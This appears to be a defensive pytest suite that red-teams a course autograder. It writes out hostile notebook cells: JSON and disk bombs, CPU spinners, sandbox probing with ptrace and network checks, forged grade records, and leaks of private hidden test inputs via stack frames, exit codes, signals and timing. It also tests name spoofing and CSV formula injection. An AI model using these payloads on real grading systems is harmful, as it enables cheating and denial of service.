"""Red team: attacks on the autograder that tests/test_autograder.py does not try, each with the
outcome it must get. A passing test documents a defence; an `xfail(strict=True)` test is a hole
still open (its reason says where the fix belongs).

Most attacks are graded together in one batch with the README's command (2 workers, small
limits); each submission is the chapter 2 solution master plus one hostile cell, and the
hostile cell makes exercise 2.2's answer right only when the defence holds (full marks = held).
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import numpy as np
import pytest

from conftest import ROOT
from test_autograder import FULL, GRADED, MASTER, after, master_cells, notebook, region, wrong
from kvmem.grading import runner
from kvmem.grading.grade import grade_submission
from kvmem.grading.notebook_code import as_python, graded_cells
from kvmem.grading.readback import parse_answers
from kvmem.grading.reports import file_stem
from kvmem.grading.cgroup import SubmissionCgroup
from kvmem.grading.sandbox import Limits, can_isolate, claim_uids

needs_sandbox = pytest.mark.skipif(not can_isolate(), reason="no bubblewrap sandbox can be made here")
LIMIT_ARGS = ["--cell-timeout", "5", "--notebook-timeout", "25", "--memory-mb", "1024"]
RIGHT_22 = "beta_2_2 @ keys_2_2 / beta_2_2.sum()"
HIDDEN_MARK = 4242.5  # the value of the instructor's private hidden case


def answer_22_if(condition_code: str) -> str:
    """Exercise 2.2's answer: right if `defended` (set by the attack code) is true."""
    return f"{condition_code}\nweighted_key = {RIGHT_22} if defended else np.zeros(2)"


# -- the attacks ----------------------------------------------------------------------------

# The answer pipe is an inherited descriptor (3): write one 60 MB line of empty JSON objects.
# json.loads would build 20 million dicts (1.7 GB) in the grader's own process.
PIPE_BOMB = """import os, stat
for fd in range(3, 8):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            line = b"[" + b"{}," * (20 * 2**20) + b"{}]\\n"
            while line:
                line = line[os.write(fd, line):]
    except OSError:
        pass
defended = True"""

# /dev/shm was a tmpfs of its own, outside the disk limit: fill it and /tmp, in 16 MB files
# (under the file-size rlimit), and count what was written.
FILL_SHM_AND_TMP = """import os
written = 0
for folder in ("/dev/shm", "/tmp"):
    for k in range(20):
        try:
            with open(os.path.join(folder, f"fill{k}"), "wb") as f:
                for _ in range(2):
                    f.write(b"x" * 2**23)
                    written += 2**23
        except OSError:
            break
defended = written <= 256 * 2**20 + 2**23"""

# Four spinning processes: more than one core taken from the other submissions of the batch.
CPU_SPINNERS = """import os, time
start = time.time()
pids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        while time.time() - start < 1.5:
            pass
        os._exit(0)
    pids.append(pid)
for pid in pids:
    os.waitpid(pid, 0)
defended = os.times().children_user / (time.time() - start) < 1.3"""

# What the sandbox looks like from inside: the grader's files, host processes, other jails, /sys,
# /run, inherited descriptors beyond the answer pipe, the grading package, ptrace of the runner.
FINGERPRINT = """import ctypes, os, stat, sys
problems = []
def seen(path):
    return os.path.lexists(path)
for path in ("/sys/fs/cgroup", "/run", "/home", "/var", "/opt", "/srv", "/mnt", "/media", "/etc/passwd", "/etc/shadow",
             "/root/.bashrc", "/proc/sysvipc/shm_x", "/proc/kcore_x"):
    if seen(path) and not path.endswith("_x"):
        problems.append("sees " + path)
if os.listdir("/etc") not in (["ld.so.cache"], []):
    problems.append("etc " + str(os.listdir("/etc")))
prefix = os.path.realpath(sys.base_prefix)  # the grader's Python, bound read-only where it lives
for folder in ("/root", "/home"):
    if seen(folder) and not prefix.startswith(folder + "/") and os.listdir(folder):
        problems.append(folder + " not empty")
if seen("/root/.ssh") or seen("/root/.bash_history"):
    problems.append("sees the home folder of root")
for folder in ("/usr", prefix, "/sandbox/site/kvmem", "/proc/sys/kernel"):
    try:
        open(os.path.join(folder, "x"), "w").close()
        problems.append(folder + " writable")
    except OSError:
        pass
pids = [p for p in os.listdir("/proc") if p.isdigit()]
if pids != ["1"]:
    problems.append("processes " + str(pids))
if os.getuid() == 0 or os.geteuid() == 0:
    problems.append("uid 0")
for fd in range(3, 256):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    if not stat.S_ISFIFO(mode) and not stat.S_ISCHR(mode):
        problems.append(f"descriptor {fd} is a file or socket")
import importlib.util
spec = importlib.util.find_spec("kvmem.grading.spec")
if spec is not None:
    problems.append("kvmem.grading.spec importable")
for name in ("kvmem.grading.chapter2", "kvmem.grading.batch"):
    if importlib.util.find_spec(name) is not None:
        problems.append(name + " importable")
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, 1, 0, 0) == 0:  # PTRACE_ATTACH to the runner (PID 1 of the sandbox)
    problems.append("ptrace of the runner")
if os.system("unshare -U true 2>/dev/null") == 0:
    problems.append("can make a user namespace")
for path in sys.path:
    if "wt/" in path or "/work/main" in path:
        problems.append("repository on sys.path")
try:
    os.close(os.open("/dev/tty", os.O_RDWR))  # a terminal of the grader's: TIOCSTI into its shell
    problems.append("has a controlling terminal")
except OSError:
    pass
import socket
for address in (("1.1.1.1", 53), ("10.0.2.2", 22), ("127.0.0.1", 22)):
    connection = socket.socket()
    connection.settimeout(0.5)
    try:
        connection.connect(address)
        problems.append(f"reaches {address}")
    except OSError:
        pass
    finally:
        connection.close()
defended = not problems"""

# A thread started in a cell outlives the cells and keeps writing, after the runner's own
# records, forged records for an exercise the notebook never answered (2.5): one with fields
# that claim it passed, one with an array of 65 dimensions. A forged record is judged like an
# honest one, in the grader, its extra fields dropped: no point may come of it, and no error.
def npy_of_shape(shape: tuple) -> str:
    """base64 of a .npy file that claims this shape (and holds no data: the shape holds 0 numbers)."""
    header = f"{{'descr': '<f8', 'fortran_order': False, 'shape': {shape!r}, }}"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return base64.b64encode(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode()).decode()


LATE_FORGERY = f"""import json, os, threading, time
def forge():
    claims = json.dumps({{"answer": "2.5", "record": {{"value": {{"json": 1.0}}, "passed": True, "points": 2}},
                          "score": 100, "total": 9}}) + "\\n"
    # an array of 65 dimensions: numpy's own ValueError, outside the checks, was a grader error
    dimensions = json.dumps({{"answer": "2.5", "record": {{"value": {{"npy": "{npy_of_shape((0,) * 65)}"}}}}}}) + "\\n"
    for k in range(2000):  # on, while the runner collects and sends its own records
        try:
            os.write(3, (claims if k % 2 else dimensions).encode())
        except OSError:
            return
        time.sleep(0.002)
threading.Thread(target=forge, daemon=True).start()
defended = True"""

# The private hidden case's inputs, read from the runner's own memory (its frames hold the job)
# and raised in an exception message: cell errors are copied into the student's feedback.
HIDDEN_LEAK = """import sys
found = []
frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_locals.values()):
        if isinstance(value, dict) and "2.1" in value and isinstance(value["2.1"], list):
            found.append(value["2.1"])
    frame = frame.f_back
leak = []
for cases in found[:1]:
    for case in cases:
        for arg in case:
            if hasattr(arg, "tolist"):
                leak.append(arg.tolist())
            elif isinstance(arg, dict) and "npy" in arg:
                import base64, io
                leak.append(np.load(io.BytesIO(base64.b64decode(arg["npy"]))).tolist())
raise RuntimeError("LEAK " + " ".join(str(x)[:60] for x in leak[::-1][:3]))"""

# The same values taken where they are bound to arrive, as the arguments of a hidden call: the
# function writes forged records (a failure message and cell errors that quote them) straight to
# every pipe it holds, the grader's answer pipe among them, and then answers right.
HIDDEN_ARGUMENT_FORGERY = """import json, os
_right = cumulative_average_at
def cumulative_average_at(keys, i):
    if np.max(np.abs(keys)) > 4000:
        leak = "LEAK " + str(np.asarray(keys).ravel()[:3].tolist())
        lines = [{"answer": "2.1", "record": {"failed": leak}}, {"answer": "2.3", "record": {"failed": leak}},
                 {"cell_errors": [{"cell": 1, "error": "RuntimeError", "message": leak}]}]
        for fd in os.listdir("/proc/self/fd"):
            try:
                if int(fd) > 2 and os.readlink("/proc/self/fd/" + fd).startswith("pipe:"):
                    os.write(int(fd), "".join(json.dumps(line) + "\\n" for line in lines).encode())
            except OSError:
                pass
    return _right(keys, i)"""

# An honest-looking timeout helper: a SIGALRM handler of the notebook's own. The runner's cell
# timeouts are SIGALRM too: a later cell that never ends was then never stopped, and the whole
# notebook (every answer already defined) scored 0 at the grader's wall-clock limit.
OWN_ALARM_HANDLER = "import signal\nsignal.signal(signal.SIGALRM, lambda signum, frame: None)"
SLOW_LAST_CELL = "import time\nwhile True:\n    time.sleep(1)"

KEYRING_WRITE = """import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(248, b"user", b"kvmem-redteam", b"left behind", 11, -4)   # add_key to the user keyring
libc.syscall(248, b"user", b"kvmem-redteam", b"left behind", 11, -5)   # and the user session keyring
defended = True"""

KEYRING_READ = """import ctypes
libc = ctypes.CDLL(None, use_errno=True)
found = [libc.syscall(250, 10, ring, b"user", b"kvmem-redteam", 0) for ring in (-4, -5)]   # KEYCTL_SEARCH
defended = all(k < 0 for k in found)"""


# The request for the hidden cases, forged on the answer pipe by a cell: the grader sends them
# at once, the cell reads them from the runner's hidden descriptor (sys.argv[2]) and ends the
# runner with an exit code made of the hidden value, which the feedback quoted.
FORGED_REQUEST_EXIT_CODE = """import json, os, stat, sys
hidden_fd = int(sys.argv[2])
request = ("\\n" + json.dumps({"hidden_inputs": "please"}) + "\\n").encode()
for fd in range(3, 20):
    try:
        if fd != hidden_fd and stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, request)
    except OSError:
        pass
data = b""
while chunk := os.read(hidden_fd, 1 << 16):
    data += chunk
import base64, io
first = json.loads(data)["2.1"][0][0]["npy"]
os._exit(int(np.load(io.BytesIO(base64.b64decode(first))).ravel()[0]) % 100)"""

# Without forging anything: a cell installs a handler that ends the runner with code 42, and the
# function, called on a hidden case, signals the runner (its parent) when the input is large.
SIGNAL_FROM_A_HIDDEN_CALL = """import os, signal
signal.signal(signal.SIGUSR1, lambda signum, frame: os._exit(42))
_right = cumulative_average_at
def cumulative_average_at(keys, i):
    if np.max(np.abs(keys)) > 4000:
        os.kill(os.getppid(), signal.SIGUSR1)
    return _right(keys, i)"""


# A timing channel: called on the hidden case, the function sleeps a time made of its input
# (here 4 s for 4242.5, within the 5 s an exercise may take) and answers right. The grading's
# seconds are in results.json and Gradescope's execution_time.
SLEEP_ON_A_HIDDEN_CALL = """import time
_right = cumulative_average_at
def cumulative_average_at(keys, i):
    if np.max(np.abs(keys)) > 4000:
        time.sleep(float(np.max(np.abs(keys))) // 1000)
    return _right(keys, i)"""


def attacks() -> dict:
    """name -> (notebook text, expected total, expected status)."""
    cells = master_cells()
    with_22 = lambda code: notebook(region(cells, "2.2", answer_22_if(code)))  # noqa: E731
    return {
        "rt01_json_bomb_on_the_answer_pipe": (with_22(PIPE_BOMB), FULL, "ok"),
        "rt02_fills_dev_shm_and_tmp": (with_22(FILL_SHM_AND_TMP), FULL, "ok"),
        "rt03_spins_four_cores": (with_22(CPU_SPINNERS), FULL, "ok"),
        "rt04_fingerprints_the_sandbox": (with_22(FINGERPRINT), FULL, "ok"),
        "rt05_late_forged_record": (notebook(region(after(cells, LATE_FORGERY), "2.5", "pass")), FULL - 2, "ok"),
        "rt06_reads_hidden_inputs": (notebook(after(cells, HIDDEN_LEAK)), FULL, "ok"),
        "rt06b_forges_records_from_a_hidden_call": (notebook(after(cells, HIDDEN_ARGUMENT_FORGERY)), FULL, "ok"),
        "rt07_own_sigalrm_handler": (notebook(after(after(cells, OWN_ALARM_HANDLER), SLOW_LAST_CELL)), FULL, "ok"),
        "rt08_forged_request_exit_code": (notebook(after(cells, FORGED_REQUEST_EXIT_CODE)), 0, "exit"),
        "rt08b_exit_code_from_a_hidden_call": (notebook(after(cells, SIGNAL_FROM_A_HIDDEN_CALL)), 0, "exit"),
        "rt08c_sleeps_on_a_hidden_call": (notebook(after(cells, SLEEP_ON_A_HIDDEN_CALL)), FULL, "ok"),
    }


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    if not can_isolate():
        pytest.skip("needs the bubblewrap sandbox")
    root = tmp_path_factory.mktemp("redteam")
    submissions, out, private = root / "submissions", root / "out", root / "private"
    submissions.mkdir()
    private.mkdir(mode=0o700)
    (private / "chapter2_extra.py").write_text(f'hidden_cases("2.1", [(np.full((2, 3), {HIDDEN_MARK}), 1)])\n')
    expected = {}
    for name, (text, total, status) in attacks().items():
        (submissions / f"{name}.ipynb").write_text(text)
        expected[name] = (total, status)
    # two IDs that differ only in a newline and a space; one with a right-to-left override
    for name in ("ann\nlee", "ann lee", "evil\u202egnp.exe"):
        (submissions / f"{name}.ipynb").write_text("{not json")
        expected[name] = (0, "invalid-notebook")
    # The README's command, in a wrapper that reports the grader's own peak memory.
    wrapper = ("import resource, sys; from kvmem.grading.cli import main; code = main(sys.argv[1:]); "
               "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss); sys.exit(code)")
    command = [sys.executable, "-c", wrapper, str(submissions), "--chapter", "2", "--out", str(out),
               "--hidden", str(private), "--workers", "2", *LIMIT_ARGS]
    start = time.perf_counter()
    result = subprocess.run(command, capture_output=True, text=True, timeout=600)
    results = json.loads((out / "results.json").read_text()) if result.returncode == 0 else {"submissions": []}
    return {"out": out, "expected": expected, "returncode": result.returncode, "log": result.stderr,
            "peak_kb": int(result.stdout.split()[-1]) if result.stdout.split() else None,
            "seconds": time.perf_counter() - start, "grades": {g["student"]: g for g in results["submissions"]}}


def test_the_red_team_batch_finishes_with_one_row_per_student(batch):
    assert batch["returncode"] == 0, batch["log"][-3000:]
    assert sorted(batch["grades"]) == sorted(batch["expected"])


@pytest.mark.parametrize("name", sorted(attacks()))
def test_each_attack_gets_the_score_it_deserves(batch, name):
    grade = batch["grades"][name]
    assert (grade["total"], grade["status"]) == batch["expected"][name], \
        (grade["detail"], [(e["id"], e["messages"]) for e in grade["exercises"]], grade["cell_errors"][-3:])


def test_a_json_bomb_on_the_answer_pipe_costs_the_grader_little_memory(batch):
    """Without a cap on the JSON objects of one line, the grader's process reached 1.7 GB per
    such student (2 workers: 3.4 GB); a batch on 16 cores would be killed by the OOM killer.
    With the cap it stays under 1 GB (seen: 0.25 to 0.8 GB, depending on how the two workers'
    reads of the 60 MB line overlap)."""
    assert batch["peak_kb"] is not None and batch["peak_kb"] < 1024 * 1024, batch["peak_kb"]


def test_private_hidden_inputs_never_reach_the_feedback(batch):
    """The hidden cases reach the runner only after every other answer was sent; what arrives
    after them counts only as the hidden cases' results, judged by kind."""
    feedback = (batch["out"] / "feedback" / f"{file_stem('rt06_reads_hidden_inputs')}.md").read_text()
    assert "LEAK" in feedback  # the attack ran and its message reached the feedback...
    assert str(HIDDEN_MARK) not in feedback  # ...but found no hidden value to put in it
    forged = (batch["out"] / "feedback" / f"{file_stem('rt06b_forges_records_from_a_hidden_call')}.md").read_text()
    record = json.loads((batch["out"] / "results" / f"{file_stem('rt06b_forges_records_from_a_hidden_call')}.json").read_text())
    assert "LEAK" not in forged and str(HIDDEN_MARK) not in forged and "LEAK" not in json.dumps(record)


@pytest.mark.parametrize("name", ["rt08_forged_request_exit_code", "rt08b_exit_code_from_a_hidden_call"])
def test_how_a_runner_ends_after_the_hidden_cases_were_sent_reveals_nothing(batch, name):
    """The exit code (8 bits chosen by the notebook) or signal of a runner that ended after the
    grader sent the hidden cases was in the detail, and so in the feedback and every export."""
    feedback = (batch["out"] / "feedback" / f"{file_stem(name)}.md").read_text()
    record = (batch["out"] / "results" / f"{file_stem(name)}.json").read_text()
    for text in (feedback, record):
        assert "code 42" not in text and "SIGUSR1" not in text, name


def test_the_time_a_hidden_call_takes_is_not_reported(batch):
    """The seconds reported are those up to the request for the hidden cases: the 4 s the
    function slept on the hidden case (and so the hidden value) are not in them."""
    grade = batch["grades"]["rt08c_sleeps_on_a_hidden_call"]
    honest = batch["grades"]["rt06_reads_hidden_inputs"]
    assert grade["seconds"] < 3.5, (grade["seconds"], honest["seconds"])


def test_gradebook_ids_are_distinct_and_show_control_characters(batch):
    with open(batch["out"] / "gradebook.csv", newline="", encoding="utf-8") as f:
        ids = [row["Student ID"] for row in csv.DictReader(f)]
    assert len(ids) == len(set(ids)) == len(batch["expected"])
    assert not any("\u202e" in i for i in ids)


def test_feedback_never_shows_a_grader_error_or_a_path_of_the_grader(batch):
    for name in batch["expected"]:
        text = (batch["out"] / "feedback" / f"{file_stem(name)}.md").read_text()
        assert str(ROOT) not in text and "/tmp/kvmem-grade" not in text, name


# -- attacks on the grader's own process, without a sandbox run ---------------------------------

def test_a_pipe_line_of_millions_of_objects_is_ignored_quickly():
    bomb = b"[" + b"{}," * (20 * 2**20) + b"{}]"
    start = time.perf_counter()
    answers = parse_answers(bomb + b"\n" + b'{"done": true}\n', {"2.1"})
    assert answers.finished and answers.records == {}
    assert time.perf_counter() - start < 1.0  # json.loads of it: 3 to 10 s, and 1.7 GB


@pytest.mark.parametrize("shape", [(0,) * 65, (0,) * 33, (2**40, 0), (-1,), (1, -1)])
def test_an_array_of_absurd_shape_is_a_failure_not_an_error(shape):
    line = json.dumps({"answer": "2.2", "record": {"value": {"npy": npy_of_shape(shape)}}}) + "\n"
    value = parse_answers(line.encode(), {"2.2"}).records["2.2"]["value"]
    assert type(value).__name__ == "Failure" or value.size == 0


def test_a_large_nested_list_answer_is_still_read_back_exactly():
    """The runner's side of the cap: a (64, 64, 64) nested list travels as JSON items, and one
    too large for the grader's cap becomes a single array, never a line the grader ignores."""
    for shape in ((64, 64, 64), (64, 64, 64, 4)):
        value = np.arange(np.prod(shape), dtype=float).reshape(shape)
        runner._containers_left = runner.MAX_CONTAINERS
        record = {"answer": "2.2", "record": {"value": runner.export(value.tolist(), np)}}
        got = parse_answers((json.dumps(record) + "\n").encode(), {"2.2"}).records["2.2"]["value"]
        assert np.array_equal(np.asarray(got, dtype=float), value), shape


SPIN = """import os, sys, time
for path in sys.argv[2:]:
    open(path, "w").write(str(os.getpid()))
for _ in range(3):  # 8 spinners: more than one core even on a machine busy with other work
    os.fork()
start = time.time()
while time.time() - start < 1.0:
    pass
with open(sys.argv[1], "a") as used:  # each spinner's CPU seconds
    used.write(f"{time.process_time()}\\n")
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="submission cgroups are made by root")
def test_a_submission_that_spins_several_processes_is_held_to_one_core(tmp_path):
    """In a batch, a submission spinning 4 processes took both cores of a 2-core machine from
    the other worker's student, whose cells could then time out. Its cgroup now caps it at one
    core: the kernel throttles it (the in-sandbox attack rt03 cannot tell on a loaded machine)."""
    group = SubmissionCgroup.make(2**30, 64)
    if group is None:
        pytest.skip("no cgroup can be made here")
    try:
        stats = [f / "cpu.stat" for f in group.folders if (f / "cpu.stat").exists()]
        assert stats, "the submission's cgroup has no CPU controller"
        used = tmp_path / "cpu-seconds"
        start = time.monotonic()
        subprocess.run([sys.executable, "-c", SPIN, str(used), *group.procs_files], timeout=30)
        time.sleep(1.2)  # the forked spinners outlive their parent
        throttled = int(dict(line.split() for line in stats[0].read_text().splitlines())["nr_throttled"])
        cores_used = sum(map(float, used.read_text().split())) / (time.monotonic() - start)
        # Throttled; or, where other work left it less than a core anyway, it never used more.
        assert throttled > 0 or cores_used < 1.0, (throttled, cores_used)
    finally:
        group.remove()


READ_CELLS = """import resource, sys
from kvmem.grading.notebook_code import InvalidNotebook, read_cells
try:
    read_cells(sys.argv[1])
except InvalidNotebook:
    pass
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)"""


@pytest.mark.parametrize("bomb", ["[" + "[]," * (4 * 10**6) + "[]]",     # four million lists
                                  "[" + "1e300," * (10**7) + "1]"])      # ten million numbers (60 MB)
def test_a_notebook_whose_outputs_are_a_json_bomb_costs_the_grader_little_memory(tmp_path, bomb):
    cells = json.loads(notebook(master_cells()))
    cells["cells"][1]["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                                     "data": {"application/json": "BOMB"}}]
    cells["cells"][1]["execution_count"] = 1
    path = tmp_path / "bomb.ipynb"
    path.write_text(json.dumps(cells).replace('"BOMB"', bomb))
    result = subprocess.run([sys.executable, "-c", READ_CELLS, str(path)], capture_output=True, text=True, timeout=120)
    baseline = subprocess.run([sys.executable, "-c", READ_CELLS, str(MASTER)], capture_output=True, text=True, timeout=120)
    assert int(result.stdout) - int(baseline.stdout) < 100 * 1024, (result.stdout, baseline.stdout)


def chain_of_cells(n: int) -> list[str]:
    """n cells, each binding the name the next one (upwards) needs: a11 = a12, ..., a0 = a1."""
    return [f"a{i} = a{i + 1}" for i in range(n)][::-1] + ["weighted_key = a0"]


def test_choosing_the_graded_cells_is_linear_in_the_number_of_cells():
    cells = chain_of_cells(6000)
    start = time.perf_counter()
    assert len(graded_cells(cells, {"weighted_key"})) == 6001
    assert time.perf_counter() - start < 1.0


def test_rewriting_ipython_magics_is_linear_in_their_number():
    as_python("%time x = 1")  # IPython imported
    cell = "\n".join(f"%time a{i} = 1" for i in range(300))
    start = time.perf_counter()
    assert "run_line_magic" in as_python(cell)
    assert time.perf_counter() - start < 0.5


def test_replay_of_a_crafted_results_file_runs_no_code_of_its_sender(tmp_path):
    evil = tmp_path / "evil"
    evil.mkdir()
    os.chmod(evil, 0o777)  # as a student's shared folder would be
    marker = tmp_path / "owned"
    (evil / "chapter2_appeal.py").write_text(f"open({str(marker)!r}, 'w').write('ran as the grader')\n"
                                             "raise SystemExit('stop the replay here')\n")
    submitted = tmp_path / "mine.ipynb"
    submitted.write_text(notebook(master_cells()))
    record = {"student": "mallory", "status": "ok", "detail": "", "total": 0, "max_total": FULL, "exercises": [],
              "chapter": 2, "notebook": str(submitted), "hidden": str(evil), "seeds": {},
              "notebook_sha256": hashlib.sha256(submitted.read_bytes()).hexdigest()}
    (tmp_path / "results.json").write_text(json.dumps(record))
    subprocess.run([sys.executable, "-m", "kvmem.grading.cli", "--replay", str(tmp_path / "results.json")],
                   capture_output=True, timeout=120)
    assert not marker.exists()


# -- attacks that need two gradings in a row on the same sandbox uid ---------------------------

@needs_sandbox
def test_a_key_left_in_the_kernel_keyring_is_not_seen_by_the_next_submission(tmp_path):
    cells = master_cells()
    limits = Limits(cell_seconds=5, notebook_seconds=25, memory_bytes=2**30)
    grades = []
    with claim_uids(1) as (uid,):
        for k, code in enumerate((KEYRING_WRITE, KEYRING_READ)):
            path = tmp_path / f"s{k}.ipynb"
            path.write_text(notebook(region(cells, "2.2", answer_22_if(code))))
            base = tmp_path / f"base{k}"
            base.mkdir()
            grades.append(grade_submission(path, 2, f"s{k}", limits, base, uid))
    assert [(g.total, g.status) for g in grades] == [(FULL, "ok"), (FULL, "ok")], [g.cell_errors for g in grades]


# -- Gradescope ------------------------------------------------------------------------------

def test_gradescope_refuses_a_submitted_link_to_the_hidden_checks(tmp_path):
    archive = tmp_path / "autograder.zip"
    subprocess.run([sys.executable, "-m", "kvmem.grading.gradescope", "build", "--chapter", "2", "--out", str(archive)],
                   check=True, capture_output=True)
    root = tmp_path / "autograder"
    for folder in ("source", "submission", "results"):
        (root / folder).mkdir(parents=True)
    with zipfile.ZipFile(archive) as z:
        z.extractall(root / "source")
    hidden = sorted((root / "source" / "hidden").iterdir())[0]
    (root / "submission" / "chapter2_cumulative_average.ipynb").symlink_to(hidden)
    (root / "submission" / "nested").mkdir()
    (root / "submission" / "nested" / "copy.ipynb").symlink_to(MASTER)
    env = {**os.environ, "PYTHONPATH": str(root / "source")}
    subprocess.run([sys.executable, "-m", "kvmem.grading.gradescope", "run", "--root", str(root)], check=True, env=env,
                   cwd=root / "source", capture_output=True, timeout=120)
    results = json.loads((root / "results" / "results.json").read_text())
    assert results["score"] == 0
    text = json.dumps(results)
    assert "hidden_cases" not in text and "SOLUTION" not in text


# -- intake: LMS download names --------------------------------------------------------------

@pytest.mark.parametrize("victim, attacker", [
    # Eve (Moodle participant 99) set her full name to "Eve_7_assignsubmission_file_"
    ("Ann Lee_7_assignsubmission_file_chapter2.ipynb", "Eve_7_assignsubmission_file__99_assignsubmission_file_nb.ipynb"),
    # a Canvas name that holds "_<user id>_<submission id>_" (Canvas user 13, named "eve_12_500")
    ("annlee_12_400_chapter2.ipynb", "eve_12_500_13_501_nb.ipynb"),
])
def test_a_download_name_that_holds_another_students_identifier_takes_no_ones_place(tmp_path, victim, attacker):
    """The shortest reading of such a name was the victim's identifier: the attacker's notebook
    then replaced the victim's (alphabetical order chose between the two), and the attacker had
    no row. A name that reads two ways is keyed by the whole name, with no identifier."""
    from kvmem.grading.intake import find_submissions

    for name in (victim, attacker):
        (tmp_path / name).write_text("{}")
    found = {s.student: (s.notebook.name, s.lms, s.problem) for s in find_submissions(tmp_path).submissions}
    victim_id = "Participant 7" if "assignsubmission" in victim else "12"
    assert found[victim_id] == (victim, "moodle" if victim_id.startswith("P") else "canvas", "")
    assert len(found) == 2
    (attacker_row,) = [row for student, row in found.items() if student != victim_id]
    assert attacker_row[:2] == (attacker, "")


def test_names_that_differ_only_in_undecodable_bytes_are_two_students(tmp_path):
    """A zip made on another system (Shift-JIS or cp437 names) holds names that are not UTF-8.
    Each undecodable byte was shown as U+FFFD, so two such students of the same name length
    (Shift-JIS あい and うえ here) were one student: one notebook graded, the other student with no row."""
    from kvmem.grading.intake import find_submissions

    for raw in (b"\x82\xa0\x82\xa2.ipynb", b"\x82\xa4\x82\xa6.ipynb", b"caf\xe9", b"caf\xe8"):
        path = tmp_path / os.fsdecode(raw)
        if raw.endswith(b".ipynb"):
            path.write_text("{}")
        else:
            path.mkdir()
            (path / "nb.ipynb").write_text("{}")
    found = find_submissions(tmp_path).submissions
    assert len({s.student for s in found}) == 4 and not any(s.problem for s in found), [(s.student, s.problem) for s in found]
    assert all(s.student.isprintable() and s.student.encode("utf-8") for s in found)


def test_a_late_request_for_the_hidden_cases_never_touches_a_reused_descriptor():
    """Without a sandbox a stray process of the notebook may hold the answer pipe and write the
    request after the run ended and its hidden pipe was closed: the hidden cases were then
    written to whatever that descriptor number had become (another submission's pipe or job
    file, in a batch), and it was closed under its owner."""
    from kvmem.grading.sandbox import _Deferred

    read_end, write_end = os.pipe()
    send = _Deferred(write_end, b'{"2.1": "hidden"}')
    send.close()                     # the run is over
    reused, other_writer = os.pipe()  # another worker's pipe, most often on the same number
    try:
        send()                       # the late request
        time.sleep(0.2)
        os.fstat(reused)             # still open
        os.write(other_writer, b"x")
        assert os.read(reused, 100) == b"x"
    finally:
        for fd in (read_end, reused, other_writer):
            try:
                os.close(fd)
            except OSError:
                pass


def test_a_backslash_in_a_name_cannot_make_it_look_like_another(tmp_path):
    """IDs are shown escaped ("ann\\nlee" for a line break, "caf\\xe9" for an undecodable byte),
    and the TA's manual.csv is matched by the ID as shown: a file name that holds a real
    backslash ("ann\\nlee.ipynb") must not look like the one with a line break, nor take the
    row of the one with an undecodable byte."""
    from kvmem.grading.intake import find_submissions
    from kvmem.grading.reports import text

    for name in (os.fsdecode(b"caf\xe9.ipynb"), "caf\\xe9.ipynb", "ann\nlee.ipynb", "ann\\nlee.ipynb"):
        (tmp_path / name).write_text("{}")
    found = find_submissions(tmp_path).submissions
    assert len({s.student for s in found}) == 4 and len({text(s.student) for s in found}) == 4, \
        [(s.student, s.problem) for s in found]


def test_ids_that_differ_in_a_leading_apostrophe_stay_apart_in_the_csv_files():
    """A CSV cell that a spreadsheet would read as a formula gets a leading apostrophe: the
    student "=x" was then written as "'=x", exactly as the student "'=x", in the gradebook, the
    LMS exports and manual.csv, whose rows are matched back by that cell (one student's
    hand-marked points went to the other)."""
    from kvmem.grading.manual import Answer, match_rows
    from kvmem.grading.reports import csv_cell

    students = ["=x", "'=x", "''=x"]
    assert len({csv_cell(s) for s in students}) == 3
    answers = [Answer(s, "2.97", "written", "an answer") for s in students]
    rows = {(csv_cell(s), "2.97", "written"): {"line": k, "Points": str(k)} for k, s in enumerate(students)}
    matched, problems = match_rows(answers, rows)
    assert {student: row["Points"] for (student, _, _), row in matched.items()} == {"=x": "0", "'=x": "1", "''=x": "2"}
    assert not problems
